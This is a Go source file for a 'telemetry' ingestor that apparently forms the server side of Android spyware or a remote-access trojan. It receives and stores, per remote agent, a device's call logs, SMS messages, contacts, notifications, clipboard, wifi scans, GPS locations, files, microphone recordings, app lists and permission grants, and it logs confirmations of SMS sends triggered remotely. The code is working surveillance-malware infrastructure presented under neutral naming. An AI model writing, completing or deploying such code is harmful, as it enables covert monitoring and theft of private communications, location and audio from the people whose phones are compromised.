package telemetry

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"

	"k8s.io/utils/clock"

	"github.com/musterhq/muster/internal/blob"
	"github.com/musterhq/muster/internal/catalog"
	"github.com/musterhq/muster/internal/store"
)

// ErrMalformed wraps payloads whose outer shape cannot be decoded. Callers log
// it and keep the connection alive; telemetry failures never tear down a
// session.
var ErrMalformed = errors.New("malformed telemetry")

// Summary reports what one ingest call did with the incoming records.
type Summary struct {
	New       int
	Duplicate int
	Refreshed int
	Dropped   int
}

// Ingestor routes inbound telemetry payloads into the store, one handler per
// kind. Not safe for concurrent use on the same agent; the hub serializes
// calls per agent id.
type Ingestor struct {
	store store.Store
	blobs *blob.Store
	clock clock.PassiveClock
}

func NewIngestor(st store.Store, blobs *blob.Store, clk clock.PassiveClock) *Ingestor {
	if clk == nil {
		clk = clock.RealClock{}
	}
	return &Ingestor{store: st, blobs: blobs, clock: clk}
}

// Ingest decodes raw according to kind and persists the result. Per-record
// failures are logged and counted as dropped so one bad record never loses the
// rest of a batch; only an undecodable outer payload returns an error.
func (in *Ingestor) Ingest(ctx context.Context, agentID string, kind catalog.Kind, raw json.RawMessage) (Summary, error) {
	switch kind {
	case catalog.Calls:
		var recs []CallRecord
		if err := json.Unmarshal(raw, &recs); err != nil {
			return Summary{}, fmt.Errorf("%w: call log: %v", ErrMalformed, err)
		}
		return ingestKeyed(ctx, in, agentID, store.CollectionCalls, recs), nil

	case catalog.SMS:
		return in.ingestSMS(ctx, agentID, raw)

	case catalog.Contacts:
		var recs []ContactRecord
		if err := json.Unmarshal(raw, &recs); err != nil {
			return Summary{}, fmt.Errorf("%w: contacts: %v", ErrMalformed, err)
		}
		return ingestKeyed(ctx, in, agentID, store.CollectionContacts, recs), nil

	case catalog.Notifications:
		var rec NotificationRecord
		if err := json.Unmarshal(raw, &rec); err != nil {
			return Summary{}, fmt.Errorf("%w: notification: %v", ErrMalformed, err)
		}
		return ingestKeyed(ctx, in, agentID, store.CollectionNotifications, []NotificationRecord{rec}), nil

	case catalog.Clipboard:
		var rec ClipboardRecord
		if err := json.Unmarshal(raw, &rec); err != nil {
			return Summary{}, fmt.Errorf("%w: clipboard: %v", ErrMalformed, err)
		}
		return ingestKeyed(ctx, in, agentID, store.CollectionClipboard, []ClipboardRecord{rec}), nil

	case catalog.Wifi:
		return in.ingestWifi(ctx, agentID, raw)

	case catalog.Location:
		return in.ingestLocation(ctx, agentID, raw)

	case catalog.Files:
		return in.ingestFiles(ctx, agentID, raw)

	case catalog.Mic:
		return in.ingestBinary(ctx, agentID, raw, DownloadTypeVoice)

	case catalog.Apps:
		var list []AppRecord
		if err := json.Unmarshal(raw, &list); err != nil {
			return Summary{}, fmt.Errorf("%w: app list: %v", ErrMalformed, err)
		}
		return in.replaceSnapshot(ctx, agentID, store.SnapshotApps, raw, len(list))

	case catalog.Permissions:
		var perms []string
		if err := json.Unmarshal(raw, &perms); err != nil {
			return Summary{}, fmt.Errorf("%w: permission list: %v", ErrMalformed, err)
		}
		return in.replaceSnapshot(ctx, agentID, store.SnapshotPermissions, raw, len(perms))

	case catalog.PermissionGranted:
		var grant permissionGrant
		if err := json.Unmarshal(raw, &grant); err != nil {
			return Summary{}, fmt.Errorf("%w: permission grant: %v", ErrMalformed, err)
		}
		slog.Info("Agent reported granted permission",
			"agent_id", agentID,
			"permission", grant.Permission)
		return Summary{}, nil

	default:
		// Valid catalog kinds without an inbound payload (camera is
		// command-only today) land here.
		slog.Warn("No ingest handler for telemetry kind",
			"agent_id", agentID,
			"kind", kind)
		return Summary{}, nil
	}
}

// keyed is any record carrying natural identity fields.
type keyed interface {
	DedupeKey() string
}

// ingestKeyed appends each record unless its dedupe key is already present in
// the agent's collection.
func ingestKeyed[T keyed](ctx context.Context, in *Ingestor, agentID string, c store.Collection, recs []T) Summary {
	var sum Summary
	now := in.clock.Now()
	for _, rec := range recs {
		doc, err := json.Marshal(rec)
		if err != nil {
			slog.Error("Failed to encode telemetry record",
				"agent_id", agentID, "collection", c, "error", err)
			sum.Dropped++
			continue
		}
		inserted, err := in.store.AppendLogRecord(ctx, agentID, c, store.LogRecord{
			Key:        rec.DedupeKey(),
			Doc:        doc,
			RecordedAt: now,
			SeenAt:     now,
		})
		if err != nil {
			slog.Error("Failed to store telemetry record",
				"agent_id", agentID, "collection", c, "error", err)
			sum.Dropped++
			continue
		}
		if inserted {
			sum.New++
		} else {
			sum.Duplicate++
		}
	}
	return sum
}

// ingestSMS handles both payload forms on the sms channel: a record list (a
// dump of the message store) and a bare boolean (send acknowledgment).
func (in *Ingestor) ingestSMS(ctx context.Context, agentID string, raw json.RawMessage) (Summary, error) {
	switch firstByte(raw) {
	case '[':
		var recs []SMSRecord
		if err := json.Unmarshal(raw, &recs); err != nil {
			return Summary{}, fmt.Errorf("%w: sms list: %v", ErrMalformed, err)
		}
		return ingestKeyed(ctx, in, agentID, store.CollectionSMS, recs), nil
	case 't', 'f':
		var sent bool
		if err := json.Unmarshal(raw, &sent); err != nil {
			return Summary{}, fmt.Errorf("%w: sms result: %v", ErrMalformed, err)
		}
		if sent {
			slog.Info("Agent confirmed SMS send", "agent_id", agentID)
		} else {
			slog.Warn("Agent reported SMS send failure", "agent_id", agentID)
		}
		return Summary{}, nil
	default:
		return Summary{}, fmt.Errorf("%w: unexpected sms payload shape", ErrMalformed)
	}
}

// ingestWifi replaces the current-scan snapshot and upserts each network into
// the wifi log by (SSID, BSSID): known networks get their seen time refreshed,
// unknown ones are appended.
func (in *Ingestor) ingestWifi(ctx context.Context, agentID string, raw json.RawMessage) (Summary, error) {
	var report WifiReport
	if err := json.Unmarshal(raw, &report); err != nil {
		return Summary{}, fmt.Errorf("%w: wifi report: %v", ErrMalformed, err)
	}

	var sum Summary
	now := in.clock.Now()

	if err := in.store.PutSnapshot(ctx, agentID, store.SnapshotWifiScan, raw); err != nil {
		slog.Error("Failed to replace wifi scan snapshot", "agent_id", agentID, "error", err)
	}

	for _, network := range report.Networks {
		key := network.DedupeKey()
		refreshed, err := in.store.RefreshLogRecord(ctx, agentID, store.CollectionWifi, key, now)
		if err != nil {
			slog.Error("Failed to refresh wifi network",
				"agent_id", agentID, "ssid", network.SSID, "error", err)
			sum.Dropped++
			continue
		}
		if refreshed {
			sum.Refreshed++
			continue
		}
		doc, err := json.Marshal(network)
		if err != nil {
			slog.Error("Failed to encode wifi network",
				"agent_id", agentID, "ssid", network.SSID, "error", err)
			sum.Dropped++
			continue
		}
		inserted, err := in.store.AppendLogRecord(ctx, agentID, store.CollectionWifi, store.LogRecord{
			Key:        key,
			Doc:        doc,
			RecordedAt: now,
			SeenAt:     now,
		})
		if err != nil {
			slog.Error("Failed to store wifi network",
				"agent_id", agentID, "ssid", network.SSID, "error", err)
			sum.Dropped++
			continue
		}
		if inserted {
			sum.New++
		} else {
			sum.Duplicate++
		}
	}
	return sum, nil
}

// ingestLocation appends a fix verbatim. A fix missing both coordinates is
// noise and dropped; a single absent coordinate stores as zero like any other
// missing numeric.
func (in *Ingestor) ingestLocation(ctx context.Context, agentID string, raw json.RawMessage) (Summary, error) {
	var fix gpsFix
	if err := json.Unmarshal(raw, &fix); err != nil {
		return Summary{}, fmt.Errorf("%w: location fix: %v", ErrMalformed, err)
	}
	if fix.Latitude == nil && fix.Longitude == nil {
		slog.Error("Location fix missing coordinates", "agent_id", agentID)
		return Summary{Dropped: 1}, nil
	}

	var lat, lon float64
	if fix.Latitude != nil {
		lat = *fix.Latitude
	}
	if fix.Longitude != nil {
		lon = *fix.Longitude
	}

	stored := GPSFix{
		Latitude:  lat,
		Longitude: lon,
		Altitude:  fix.Altitude,
		Accuracy:  fix.Accuracy,
		Speed:     fix.Speed,
		Enabled:   fix.Enabled,
	}
	doc, err := json.Marshal(stored)
	if err != nil {
		return Summary{}, fmt.Errorf("%w: location fix: %v", ErrMalformed, err)
	}

	now := in.clock.Now()
	if _, err := in.store.AppendLogRecord(ctx, agentID, store.CollectionGPS, store.LogRecord{
		Doc:        doc,
		RecordedAt: now,
		SeenAt:     now,
	}); err != nil {
		slog.Error("Failed to store location fix", "agent_id", agentID, "error", err)
		return Summary{Dropped: 1}, nil
	}
	return Summary{New: 1}, nil
}

// ingestFiles handles both payload forms on the files channel: a directory
// listing (snapshot) and a binary file download.
func (in *Ingestor) ingestFiles(ctx context.Context, agentID string, raw json.RawMessage) (Summary, error) {
	switch firstByte(raw) {
	case '[':
		var entries []FileEntry
		if err := json.Unmarshal(raw, &entries); err != nil {
			return Summary{}, fmt.Errorf("%w: file listing: %v", ErrMalformed, err)
		}
		return in.replaceSnapshot(ctx, agentID, store.SnapshotFileListing, raw, len(entries))
	case '{':
		return in.ingestBinary(ctx, agentID, raw, DownloadTypeFile)
	default:
		return Summary{}, fmt.Errorf("%w: unexpected files payload shape", ErrMalformed)
	}
}

// ingestBinary persists the payload bytes in the blob store and appends a
// download-log entry. A failed blob write is logged and abandoned, no retry.
func (in *Ingestor) ingestBinary(ctx context.Context, agentID string, raw json.RawMessage, downloadType string) (Summary, error) {
	var payload binaryPayload
	if err := json.Unmarshal(raw, &payload); err != nil {
		return Summary{}, fmt.Errorf("%w: binary payload: %v", ErrMalformed, err)
	}
	if !payload.IsFile {
		slog.Warn("Binary payload missing file flag, dropping", "agent_id", agentID)
		return Summary{Dropped: 1}, nil
	}

	saved, err := in.blobs.Save(agentID, payload.Name, payload.Data)
	if err != nil {
		slog.Error("Failed to persist binary payload",
			"agent_id", agentID, "name", payload.Name, "error", err)
		return Summary{Dropped: 1}, nil
	}

	now := in.clock.Now()
	entry := DownloadEntry{
		Time:         now,
		Type:         downloadType,
		OriginalName: payload.Name,
		Path:         saved.Path,
	}
	doc, err := json.Marshal(entry)
	if err != nil {
		return Summary{}, fmt.Errorf("%w: download entry: %v", ErrMalformed, err)
	}
	if _, err := in.store.AppendLogRecord(ctx, agentID, store.CollectionDownloads, store.LogRecord{
		Doc:        doc,
		RecordedAt: now,
		SeenAt:     now,
	}); err != nil {
		slog.Error("Failed to record download", "agent_id", agentID, "error", err)
		return Summary{Dropped: 1}, nil
	}

	slog.Info("Stored binary payload",
		"agent_id", agentID,
		"type", downloadType,
		"path", saved.Path,
		"bytes", len(payload.Data))
	return Summary{New: 1}, nil
}

// replaceSnapshot replaces the current value when the incoming payload is
// non-empty; empty payloads leave the previous snapshot in place.
func (in *Ingestor) replaceSnapshot(ctx context.Context, agentID string, snap store.Snapshot, raw json.RawMessage, n int) (Summary, error) {
	if n == 0 {
		return Summary{}, nil
	}
	if err := in.store.PutSnapshot(ctx, agentID, snap, raw); err != nil {
		slog.Error("Failed to replace snapshot",
			"agent_id", agentID, "snapshot", snap, "error", err)
		return Summary{Dropped: 1}, nil
	}
	return Summary{New: 1}, nil
}

// firstByte returns the first non-whitespace byte of raw, or 0.
func firstByte(raw json.RawMessage) byte {
	for _, b := range raw {
		switch b {
		case ' ', '\t', '\n', '\r':
			continue
		}
		return b
	}
	return 0
}
